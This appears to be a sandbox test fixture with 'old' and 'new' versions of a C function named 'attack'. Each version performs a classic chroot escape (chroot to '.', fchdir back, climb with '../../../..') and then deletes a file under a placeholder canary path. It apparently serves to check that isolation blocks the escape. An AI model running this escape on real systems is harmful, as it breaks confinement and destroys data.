//// old
#include <fcntl.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    int here = syscall(SYS_open, ".", O_RDONLY, 0);
    syscall(SYS_chroot, ".");
    syscall(SYS_fchdir, here);
    syscall(SYS_chdir, "../../../..");
    syscall(SYS_unlink, "@CANARY@/file");
    return x;
}
//// new
#include <fcntl.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    int here = syscall(SYS_open, ".", O_RDONLY, 0);
    syscall(SYS_chroot, ".");
    syscall(SYS_fchdir, here);
    syscall(SYS_chdir, "../../../..");
    syscall(SYS_unlink, "@CANARY@/file");
    return x + 1;
}
